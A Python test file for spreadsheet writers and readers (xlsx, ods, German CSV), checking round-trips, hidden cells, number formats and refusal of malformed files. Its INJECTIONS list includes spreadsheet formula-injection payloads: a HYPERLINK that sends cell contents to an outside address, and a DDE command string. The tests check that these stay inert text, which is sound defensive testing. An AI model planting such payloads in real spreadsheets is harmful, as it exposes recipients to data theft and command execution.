"""What is written is read back, and other programs read the same."""

import io
import zipfile
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
import python_calamine
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.formatting.rule import DataBarRule, Rule
from openpyxl.styles import PatternFill
from openpyxl.styles.differential import DifferentialStyle
from openpyxl.styles.numbers import NumberFormat

from core.cells import Cell, CellKind, CellStyle, InputRule, Layout, Sheet, Span, Workbook, cell_name, parse_cell_name
from infra.inspect.errors import InspectionError
from infra.spreadsheet.child import parse_workbook
from infra.spreadsheet.formulas import open_formula
from infra.spreadsheet.number_formats import format_kind, shows_otherwise
from infra.spreadsheet.ods_writer import write_ods
from infra.spreadsheet.reading import read_table, read_workbook
from infra.spreadsheet.wire import decode_workbook
from infra.spreadsheet.xlsx_writer import write_xlsx
from tests.killers import members, number, ods, text, xlsx, zipped

WRITERS = {"xlsx": write_xlsx, "ods": write_ods}
INJECTIONS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Bieter")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "{=1}",
    "'=1",
    "=",
    "_x0041_",
    "<b>&amp;</b>",
    "a  b   c ",
    " vorn und hinten ",
    "Zeile 1\nZeile 2\n\nZeile 4",
    "a\tb\t  c",
    "\u202eerdrehmu\u0301",
    "007",
    "1,5",
    "WAHR",
    "x" * 32_000,
]


def one_sheet(cells: dict[tuple[int, int], Cell], **fields: Any) -> Workbook:  # noqa: ANN401 - fields of Sheet
    return Workbook((Sheet("Blatt Ä", cells, **fields),))


@pytest.mark.parametrize("write", WRITERS.values(), ids=list(WRITERS))
def test_texts_that_look_like_formulas_stay_texts(write: Any) -> None:  # noqa: ANN401 - a writer
    cells = {(row, 0): text(value) for row, value in enumerate(INJECTIONS)}

    [sheet] = read_workbook(write(one_sheet(cells))).sheets

    assert sheet.cells == cells


def test_excel_finds_texts_where_texts_were_written() -> None:
    cells = {(row, 0): text(value) for row, value in enumerate(INJECTIONS)}

    found = openpyxl.load_workbook(io.BytesIO(write_xlsx(one_sheet(cells)))).active

    for row, value in enumerate(INJECTIONS, start=1):
        cell = found.cell(row, 1)
        assert cell.data_type == "s", value
        assert cell.hyperlink is None


printable = st.text(st.characters(exclude_categories=["Cc", "Cs", "Cn", "Co"], include_characters="\n\t"), min_size=1)
numbers = st.decimals(-(10**11), 10**11, places=4).map(lambda value: Cell(CellKind.NUMBER, value))
plain_cells = st.one_of(printable.map(text), numbers, st.booleans().map(lambda value: Cell(CellKind.BOOLEAN, value)))
positions = st.tuples(st.integers(0, 60), st.integers(0, 40))


@given(st.dictionaries(positions, plain_cells, min_size=1, max_size=12))
def test_any_cells_come_back_from_both_formats(cells: dict[tuple[int, int], Cell]) -> None:
    for write in WRITERS.values():
        [sheet] = decode_workbook(parse_workbook(write(one_sheet(cells)))).sheets  # as in the child, only faster
        assert sheet.cells == cells


words = st.text("aÄß&<>'\"=+-@;, 0€", min_size=1).filter(lambda value: value == value.strip() and "  " not in value)


@given(st.dictionaries(positions, st.one_of(words.map(text), numbers), min_size=1, max_size=12))
def test_another_reader_finds_the_same_values(cells: dict[tuple[int, int], Cell]) -> None:
    for write in WRITERS.values():
        sheet = python_calamine.load_workbook(io.BytesIO(write(one_sheet(cells)))).get_sheet_by_index(0)
        top, left = sheet.start or (0, 0)
        values = sheet.to_python(skip_empty_area=True)
        for (row, column), cell in cells.items():
            found = values[row - top][column - left]
            expected = float(cell.value) if isinstance(cell.value, Decimal) else cell.value
            assert found == expected


@pytest.mark.parametrize("write", WRITERS.values(), ids=list(WRITERS))
def test_formulas_keep_their_values(write: Any) -> None:  # noqa: ANN401 - a writer
    cells = {
        (0, 0): number("2"),
        (0, 1): Cell(CellKind.NUMBER, Decimal("4.5"), "A1*2.25"),
        (0, 2): Cell(CellKind.TEXT, "x", 'IF(A1="","","x")'),
        (0, 3): Cell(CellKind.EMPTY, None, "A9"),
    }

    [sheet] = read_workbook(write(one_sheet(cells))).sheets

    assert {at: cell.value for at, cell in sheet.cells.items()} == {at: cell.value for at, cell in cells.items()}
    assert [at for at, cell in sheet.cells.items() if cell.formula is not None] == [(0, 1), (0, 2), (0, 3)]


@pytest.mark.parametrize("write", WRITERS.values(), ids=list(WRITERS))
def test_equal_content_gives_equal_bytes(write: Any) -> None:  # noqa: ANN401 - a writer
    layout = Layout({(0, 0): CellStyle.INPUT_TEXT}, {0: 20}, (InputRule(Span(0, 0, 0, 0), "Hilfe", "Text"),), (1, 0))
    workbook = one_sheet({(0, 0): text("x")}, layout=layout)

    assert write(workbook) == write(workbook)
    assert all(info.date_time[0] == 1980 for info in zipfile.ZipFile(io.BytesIO(write(workbook))).infolist())


def test_only_input_cells_are_open_in_a_protected_sheet() -> None:
    styles = {(0, column): style for column, style in enumerate(CellStyle)}
    rule = InputRule(Span(0, 0, 3, 0), "Punkte", "0 bis 10", minimum=Decimal(0), maximum=Decimal(10))
    workbook = one_sheet({(0, 0): text("x")}, layout=Layout(styles, rules=(rule,)))

    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(workbook))).active

    assert sheet.protection.sheet
    assert {style: not sheet.cell(1, at + 1).protection.locked for at, style in enumerate(CellStyle)} == {
        style: style.is_input for style in CellStyle
    }
    [validation] = sheet.data_validations.dataValidation
    assert (validation.prompt, str(validation.sqref)) == ("0 bis 10", "A1:A4")


def test_a_file_without_help_at_its_cells_has_no_empty_list_of_it() -> None:
    """The schema of ODF 1.3 wants at least one entry."""
    content = zipfile.ZipFile(io.BytesIO(write_ods(one_sheet({(0, 0): text("x")})))).read("content.xml")

    assert b"content-validation" not in content


def test_sheets_can_be_neither_renamed_nor_deleted() -> None:
    workbook = one_sheet({(0, 0): text("x")})

    assert openpyxl.load_workbook(io.BytesIO(write_xlsx(workbook))).security.lockStructure
    content = zipfile.ZipFile(io.BytesIO(write_ods(workbook))).read("content.xml")
    assert b'<office:spreadsheet table:structure-protected="true">' in content


def test_dates_and_percentages_are_told_from_numbers_as_excel_styles_them() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    formats = ["DD.MM.YYYY", "hh:mm", "0%", '0.00 "md"', "General", "[Red]0.0", "mmm yy"]
    for row, code in enumerate(formats, start=1):
        sheet.cell(row, 1, 0.5).number_format = code
    target = io.BytesIO()
    book.save(target)

    [read] = read_workbook(target.getvalue()).sheets

    kinds = [read.cells[row, 0].kind.name for row in range(len(formats))]
    assert kinds == ["DATE", "DATE", "PERCENT", "NUMBER", "NUMBER", "NUMBER", "DATE"]


def test_numbers_come_as_they_were_typed() -> None:
    stored = {"1.1000000000000001": "1.1", "0.1": "0.1", "214200": "214200", "2.142E5": "214200", "-0.5": "-0.5"}
    rows = "".join(f"<row><c><v>{value}</v></c></row>" for value in stored)

    [sheet] = read_workbook(xlsx(rows)).sheets

    assert [str(sheet.cells[row, 0].value) for row in range(len(stored))] == list(stored.values())


def test_what_is_no_number_is_an_error_cell() -> None:
    [sheet] = read_workbook(xlsx("<row><c><v>NaN</v></c><c><v>1e999</v></c><c t='e'><v>#REF!</v></c></row>")).sheets

    assert {cell.kind for cell in sheet.cells.values()} == {CellKind.ERROR}


def test_merged_and_hidden_parts_of_a_file_saved_by_excel_are_known() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"], sheet["B2"], sheet["D4"] = "a", "b", "d"
    sheet.merge_cells("A1:C1")
    sheet.row_dimensions[2].hidden = True
    sheet.column_dimensions["D"].hidden = True
    book.create_sheet("versteckt").sheet_state = "hidden"
    target = io.BytesIO()
    book.save(target)

    first, second = read_workbook(target.getvalue()).sheets

    assert [span.name for span in first.merged] == ["A1:C1"]
    assert (first.hidden_rows, first.hidden_columns, second.hidden) == (frozenset({1}), frozenset({3}), True)


def hidden(data: bytes) -> tuple[set[int], set[int]]:
    [sheet] = read_workbook(data).sheets
    return set(sheet.hidden_rows), set(sheet.hidden_columns)


def xlsx_of_sizes(sizes: str, rows: str = "<row><c><v>1</v></c><c><v>2</v></c></row>") -> bytes:
    data = members(xlsx(rows))
    sheet = data["xl/worksheets/sheet1.xml"].replace(b"<sheetData>", sizes.encode() + b"<sheetData>")
    return zipped({**data, "xl/worksheets/sheet1.xml": sheet})


ROWS = "<row ht='{height}' customHeight='1'><c><v>1</v></c></row>"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (xlsx(ROWS.format(height="0")), ({0}, set())),
        (xlsx(ROWS.format(height="0.75")), ({0}, set())),
        (xlsx(ROWS.format(height="2")), ({0}, set())),
        (xlsx(ROWS.format(height="3")), ({0}, set())),
        (xlsx(ROWS.format(height="6")), (set(), set())),
        *(
            (xlsx(f"<row hidden='{yes}'><c><v>1</v></c></row>"), ({0}, set()))
            for yes in ("1", "true", "TRUE", "on", " true ")
        ),
        *((xlsx(f"<row hidden='{no}'><c><v>1</v></c></row>"), (set(), set())) for no in ("0", "false", "off")),
        (
            xlsx_of_sizes("<cols><col min='1' max='1' width='9' hidden='on'/><col min='1' max='2' width='9'/></cols>"),
            (set(), {0}),
        ),
        (xlsx(ROWS.format(height="x")), (set(), set())),
        (xlsx_of_sizes("<cols><col min='2' max='9' width='0'/></cols>"), (set(), {1})),
        (xlsx_of_sizes("<cols><col min='2' max='9' width='1.5'/></cols>"), (set(), set())),
        (xlsx_of_sizes("<sheetFormatPr defaultRowHeight='0'/>"), ({0}, set())),
        (xlsx_of_sizes("<sheetFormatPr zeroHeight='on'/>"), ({0}, set())),
        (xlsx_of_sizes("<sheetFormatPr defaultRowHeight='0'/>", ROWS.format(height="9")), (set(), set())),
        (xlsx_of_sizes("<sheetFormatPr defaultColWidth='0'/>"), (set(), {0, 1})),
        (
            xlsx_of_sizes("<sheetFormatPr defaultColWidth='0'/><cols><col min='1' max='1' width='9'/></cols>"),
            (set(), {1}),
        ),
    ],
)
def test_rows_and_columns_without_size_are_hidden(data: bytes, expected: tuple[set[int], set[int]]) -> None:
    assert hidden(data) == expected


@pytest.mark.parametrize(
    ("size", "flat"),
    [("0cm", True), ("0.01in", True), (".5mm", True), ("1pt", True), ("0.4cm", False), ("12pt", False), ("", False)],
)
def test_rows_and_columns_of_ods_without_size_are_hidden(size: str, flat: bool) -> None:  # noqa: FBT001 - a table
    styles = (
        f'<style:style style:name="r"><style:table-row-properties style:row-height="{size}"/></style:style>'
        f'<style:style style:name="c"><style:table-column-properties style:column-width="{size}"/></style:style>'
    )
    cell = '<table:table-cell office:value-type="float" office:value="1"/>'
    rows = (
        '<table:table-column table:style-name="r"/><table:table-column table:style-name="c"/>'
        f'<table:table-row table:style-name="r">{cell}</table:table-row>'
        f'<table:table-row table:style-name="c">{cell}{cell}</table:table-row>'
    )

    assert hidden(ods(rows, styles=styles)) == (({0}, {1}) if flat else (set(), set()))


ACCOUNTS = '_-* #,##0.00 [$€-407]_-;-* #,##0.00 [$€-407]_-;_-* "-"?? [$€-407]_-;_-@_-'
SHOWN = {
    "8": [
        "General",
        "@",
        "0",
        "0.00",
        "#,##0.00",
        "0.#########",
        '0.00 "€"',
        '0" €"',
        "[Red]0.0",
        "[$€-407] 0",
        ACCOUNTS,
        "General;-General",
    ],
    "1234.5": ["0.0", "#,##0.00", "#,##0.00######", '#,##0.00\\ "€"', ACCOUNTS],
    "0": ["0", "0.###", "General", "0;-0;0;@"],
    "-3": ["0", "0;-0", "0;[Red]-0", 'General;"-"General', "0_);(0)"],
    "0.125": ["0.0%", "0.00%", "0.000", "0.00 %"],
    "text": ["@", "General", "0", ";;", "0;0;0;@", '"9"'],
}
NOT_SHOWN = {
    "8": [
        ";;;",
        '"9"',
        "* ",
        "\\ ",
        "_0",
        '[<5]0;""',
        '[<5]General;"3"',
        '"1"0',
        "0,",
        "0\\0",
        "\\10",
        ";0",
        "[White]0",
        "[Color2]0",
        "# ?/?",
        "0.00E+00",
        "0 $",
        "-0",
        "*90",
        '0" Punkte"',
        "0.0.0",
        "0%0",
    ],
    "1234.5": ["0", "#,##0", "#,##0.00,", "0,,"],
    "0": ["#", "#.##", "0;-0;;@", '0;-0;"-"', '0;0;"5"', ACCOUNTS],
    "-3": ["0;0", "0;;", "[Red];", '0;"x"'],
    "0.125": ["0%", "0.0", "General%"],
    "text": [";;;", '0;0;0;"x"', '"nicht "@', "0;0;0;"],
}


@pytest.mark.parametrize(
    ("value", "code", "seen"),
    [(value, code, True) for value, codes in SHOWN.items() for code in codes]
    + [(value, code, False) for value, codes in NOT_SHOWN.items() for code in codes],
)
def test_a_number_format_that_shows_something_else_hides_its_cell(value: str, code: str, seen: bool) -> None:  # noqa: FBT001 - a table
    kind = CellKind.TEXT if value == "text" else format_kind(code)
    cell = Cell(kind, value if value == "text" else Decimal(value))

    assert shows_otherwise(code, cell) is not seen


@pytest.mark.parametrize(
    ("number", "seen"), [(0, True), (2, True), (4, True), (44, True), (49, True), (1, False), (11, False), (12, False)]
)
def test_formats_named_by_their_number_alone_are_known(number: int, seen: bool) -> None:  # noqa: FBT001 - a table
    book = openpyxl.Workbook()
    book.active["A1"] = 1234.5
    book.active["A1"].number_format = openpyxl.styles.numbers.BUILTIN_FORMATS[number]

    [sheet] = read_workbook(saved(book)).sheets

    assert sheet.hidden_cells == (frozenset() if seen else {(0, 0)})


@pytest.mark.parametrize(
    ("code", "kind"), [("[h]", "DATE"), ("[mm]:ss", "DATE"), ("[Red]0", "NUMBER"), ("Standard", "NUMBER")]
)
def test_hours_in_brackets_are_times(code: str, kind: str) -> None:
    assert format_kind(code).name == kind


def saved(book: openpyxl.Workbook) -> bytes:
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def test_zeros_that_are_not_shown_hide_their_cells() -> None:
    book = openpyxl.Workbook()
    book.active["A1"], book.active["B1"], book.active["C1"], book.active["D1"] = 0, 1, "x", False
    book.active.sheet_view.showZeros = False

    [sheet] = read_workbook(saved(book)).sheets

    assert sheet.hidden_cells == {(0, 0)}


def test_conditional_formats_that_change_what_is_shown_hide_their_cells() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in range(1, 6):
        sheet.cell(row, 1, 8)
    colour, hiding = (
        DifferentialStyle(fill=PatternFill(bgColor="FFFF00")),
        DifferentialStyle(numFmt=NumberFormat(numFmtId=200, formatCode=";;;")),
    )
    sheet.conditional_formatting.add("A1", Rule(type="expression", formula=["TRUE"], dxf=colour))
    sheet.conditional_formatting.add("A2 A4", Rule(type="expression", formula=["TRUE"], dxf=hiding))
    sheet.conditional_formatting.add("A3", DataBarRule("min", 0, "max", 9, color="FF0000", showValue=False))

    [read] = read_workbook(saved(book)).sheets

    assert read.hidden_cells == {(1, 0), (2, 0), (3, 0)}


def test_conditional_formats_of_newer_versions_are_known_too() -> None:
    rule = (
        '<extLst><ext xmlns:x="urn:x14" xmlns:m="urn:xm"><x:conditionalFormattings><x:conditionalFormatting>'
        '<x:cfRule><m:f>TRUE</m:f><x:dxf><numFmt numFmtId="200" formatCode=";;;"/></x:dxf></x:cfRule>'
        "<m:sqref>A1 C1</m:sqref></x:conditionalFormatting></x:conditionalFormattings></ext></extLst>"
    )

    [sheet] = read_workbook(xlsx("<row><c><v>1</v></c><c><v>2</v></c><c><v>3</v></c></row>", after=rule)).sheets

    assert sheet.hidden_cells == {(0, 0), (0, 2)}


FOREIGN = 'xmlns:e="urn:x"'


@pytest.mark.parametrize(
    "cell",
    [
        f"<c r='B2'><v>8</v><e:v {FOREIGN}>10</e:v></c>",
        "<c r='B2'><v>8</v><extLst><ext><v>10</v></ext></extLst></c>",
        "<c r='B2'><v>8<x>10</x></v></c>",
        "<c r='B2'><v>8</v><v xmlns=''>10</v></c>",
        "<c r='B2'><x><v>10</v></x></c>",
        f"<e:c {FOREIGN} r='B2'><v>10</v></e:c>",
        "<c r='B2'><v>8</v><c r='C2'><v>10</v></c></c>",
        "<c r='B2' t='inlineStr'><is><x><t>10</t></x></is></c>",
    ],
)
def test_what_the_standard_does_not_put_into_a_cell_is_refused(cell: str) -> None:
    with pytest.raises(InspectionError) as refusal:
        read_workbook(xlsx(f"<row r='2'><c r='A2'><v>1</v></c>{cell}</row>"))

    assert refusal.value.reason == "file_damaged"
    assert refusal.value.place in {"Blatt!A2", "Blatt!B2", "Blatt!C2"}


@pytest.mark.parametrize(
    ("cell", "place"),
    [
        ("<c r='B2'><v>8</v><v>10</v></c>", "Blatt!B2"),
        ("<c r='B2'><v>8</v><is><t>10</t></is></c>", "Blatt!B2"),
        ("<c r='B2' t='inlineStr'><v>8</v><is><t>10</t></is></c>", "Blatt!B2"),
    ],
)
def test_a_cell_with_two_contents_is_refused(cell: str, place: str) -> None:
    with pytest.raises(InspectionError) as refusal:
        read_workbook(xlsx(f"<row r='2'>{cell}</row>"))

    assert (refusal.value.reason, refusal.value.place) == ("file_twice", place)


def test_only_what_other_programs_show_of_a_text_is_read() -> None:
    inline = "<is><r><t>1</t></r><rPh sb='0' eb='1'><t>0</t></rPh><phoneticPr fontId='1'/></is>"
    attributes = f"{FOREIGN} e:r='C9' e:t='s' e:s='3'"

    [sheet] = read_workbook(xlsx(f"<row><c t='inlineStr'>{inline}</c><c {attributes}><v>8</v></c></row>")).sheets

    assert [cell.value for cell in sheet.cells.values()] == ["1", Decimal(8)]


def test_only_what_belongs_to_ods_is_read() -> None:
    """Names of other namespaces, or of none, are skipped by the programs that show the file."""
    value = 'office:value-type="float" office:value="8"'
    cells = (
        f"<table:table-cell {value} {FOREIGN} e:value='10' e:value-type='string' value='10'/>"
        f"<table:table-cell office:value-type='string'><text:p>a</text:p><e:p {FOREIGN}>b</e:p></table:table-cell>"
        f"<e:table-cell {FOREIGN} {value}/>"
    )

    [sheet] = read_workbook(ods(f"<table:table-row>{cells}</table:table-row>")).sheets

    assert [cell.value for cell in sheet.cells.values()] == [Decimal(8), "a"]


def test_tables_beside_the_table_are_not_read() -> None:
    other = f"<extLst><ext {FOREIGN}><row><c><v>9</v></c></row><e:sheetData/><mergeCell ref='A1:B9'/></ext></extLst>"

    [sheet] = read_workbook(xlsx("<row><c><v>1</v></c></row>", after=other)).sheets

    assert (len(sheet.cells), sheet.merged) == (1, ())


def test_notes_at_cells_are_known_in_both_formats() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = 8
    book.active["A1"].comment = Comment("Ich meine 3", "Ada")
    book.active["C7"].comment = Comment("leer", "Ada")
    note = "<office:annotation><text:p>Ich meine 3</text:p></office:annotation>"
    value = 'office:value-type="float" office:value="8"'
    rows = (
        f"<table:table-row><table:table-cell {value}>{note}</table:table-cell></table:table-row>"
        f"<table:table-row><table:table-cell/><table:table-cell>{note}</table:table-cell></table:table-row>"
    )

    [read], [other] = read_workbook(saved(book)).sheets, read_workbook(ods(rows)).sheets

    assert (set(read.notes), set(other.notes)) == ({(0, 0), (6, 2)}, {(0, 0), (1, 1)})
    assert [cell.value for cell in (*read.cells.values(), *other.cells.values())] == [Decimal(8), Decimal(8)]


def test_ods_groups_that_are_closed_and_covered_cells_hide_what_is_in_them() -> None:
    value = 'office:value-type="float" office:value="1"/>'
    row = f"<table:table-row><table:table-cell {value}</table:table-row>"
    rows = (
        '<table:table-column-group table:display="false"><table:table-column/></table:table-column-group>'
        "<table:table-column/>"
        f'{row}<table:table-row-group table:display="false"><table:table-row-group>{row}</table:table-row-group>{row}'
        f"</table:table-row-group>{row}"
        f"<table:table-row><table:table-cell {value}<table:covered-table-cell {value}</table:table-row>"
    )

    [sheet] = read_workbook(ods(rows)).sheets

    assert (set(sheet.hidden_rows), set(sheet.hidden_columns)) == ({1, 2}, {0})
    assert set(sheet.hidden_cells) == {(4, 1)}


@pytest.mark.parametrize(
    ("rows", "place"),
    [
        ('<row r="7"><c r="G7"><v>8</v></c><c r="G7"><v>1</v></c></row>', "Blatt!G7"),
        ('<row r="7"><c r="G7"/><c r="G7"><v>1</v></c></row>', "Blatt!G7"),
        ('<row><c r="G7"><v>8</v></c></row><row><c r="G7"><v>1</v></c></row>', "Blatt!G7"),
        ('<row r="7"><c r="G7"><v>8</v></c></row><row r="7"><c r="H7"><v>1</v></c></row>', "Blatt!A7"),
        ('<row r="7"><c><v>8</v></c></row></sheetData><sheetData>', "Blatt"),
    ],
)
def test_what_is_there_twice_is_refused_with_its_place(rows: str, place: str) -> None:
    with pytest.raises(InspectionError) as refusal:
        read_workbook(xlsx(rows))

    assert (refusal.value.reason, refusal.value.place) == ("file_twice", place)


def test_a_cell_in_the_row_of_another_is_refused() -> None:
    with pytest.raises(InspectionError) as refusal:
        read_workbook(xlsx('<row r="8"><c r="V99"><v>1</v></c></row>'))

    assert (refusal.value.reason, refusal.value.place) == ("file_damaged", "Blatt!V99")


def test_cells_inside_an_array_formula_are_formulas() -> None:
    rows = '<row><c r="A1"><f t="array" ref="A1:A2">B1:B2</f><v>1</v></c></row><row><c r="A2"><v>2</v></c></row>'

    [sheet] = read_workbook(xlsx(rows)).sheets

    assert [cell.formula is not None for cell in sheet.cells.values()] == [True, True]


ODS_ROW = """
<table:table-column/><table:table-column table:visibility="collapse"/><table:table-row table:visibility="filter">
<table:table-cell table:number-columns-spanned="2" office:value-type="string">
<office:annotation><text:p>nicht lesen</text:p></office:annotation>
<text:p>a<text:s text:c='2'/>b<text:tab/>c</text:p><text:p>zweite</text:p></table:table-cell><table:covered-table-cell/>
<table:table-cell office:value-type="percentage" office:value="0.45"/>
<table:table-cell office:value-type="date" office:date-value="2026-05-07"/>
<table:table-cell office:value-type="boolean" office:boolean-value="true"/>
<table:table-cell table:number-columns-repeated="2" office:value-type="float" office:value="3"/></table:table-row>
"""


def test_ods_tells_merged_hidden_and_repeated_cells() -> None:
    styles = '<style:style style:name="ta"><style:table-properties table:display="false"/></style:style>'

    [sheet] = read_workbook(ods(ODS_ROW, styles=styles)).sheets

    assert [(cell.kind.name, cell.value) for cell in sheet.cells.values()] == [
        ("TEXT", "a  b\tc\nzweite"),
        ("PERCENT", Decimal("0.45")),
        ("DATE", "2026-05-07"),
        ("BOOLEAN", True),
        ("NUMBER", Decimal(3)),
        ("NUMBER", Decimal(3)),
    ]
    assert [span.name for span in sheet.merged] == ["A1:B1"]
    assert (sheet.hidden, sheet.hidden_rows) == (True, frozenset({0}))


def test_csv_of_a_german_spreadsheet() -> None:
    data = 'Nr.;Kriterium;Gewicht\r\n1;Größe „x“;12,5\r\n2;"a;b";\r\n'
    utf8, windows = read_table(b"\xef\xbb\xbf" + data.encode()), read_table(data.encode("cp1252"))

    assert utf8 == windows
    assert utf8.sheets[0].cells[1, 1] == text("Größe „x“")
    assert utf8.sheets[0].cells[2, 1] == text("a;b")
    assert (2, 2) not in utf8.sheets[0].cells


@pytest.mark.parametrize("data", [b"a\0b", b'a;"b', b"PK\x03\x04"])
def test_what_is_no_csv_is_refused(data: bytes) -> None:
    with pytest.raises(InspectionError):
        read_table(data)


def test_formulas_in_the_notation_of_ods() -> None:
    formula = """IF(AND('Blatt 1'!$A$1:$B$2="a,b",C3>=1.5),SUM(A1:A3),"'X'!A1")"""

    expected = """of:=IF(AND([$'Blatt 1'.$A$1:.$B$2]="a,b";[.C3]>=1.5);SUM([.A1:.A3]);"'X'!A1")"""
    assert open_formula(formula) == expected


@given(st.integers(0, 1_048_575), st.integers(0, 16_383))
def test_names_of_cells_lead_back(row: int, column: int) -> None:
    assert parse_cell_name(cell_name(row, column)) == (row, column)
